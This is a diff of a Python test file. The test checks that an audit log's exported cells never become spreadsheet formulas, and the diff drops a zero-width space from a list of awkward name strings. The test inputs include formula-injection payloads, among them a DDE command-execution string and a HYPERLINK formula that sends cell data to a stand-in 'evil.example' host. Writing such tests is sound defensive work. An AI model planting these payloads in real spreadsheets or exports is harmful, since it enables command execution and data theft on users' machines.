@@ -15,7 +15,7 @@ FORMULAS = (
     "=1+1", "+1", "-1", "@SUM(A1)", "|calc", "%0A=1", "＝1+1", "﹣1", "'=1", "''=1",
     "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/"&A1)', "=1\",\"=1", "\u00a0=1", "\u2003@x",
 )  # fmt: skip
-NAMES = ("a\r\nb", "a\tb", "a\0b", "\x1b[31m", "a\u2028b", "\u200b", "", " ", "\ud800", "x" * 121)
+NAMES = ("a\r\nb", "a\tb", "a\0b", "\x1b[31m", "a\u2028b", "", " ", "\ud800", "x" * 121)
 
 
 def test_no_cell_of_the_audit_log_is_a_formula_and_each_is_whole(api: Desk) -> None:
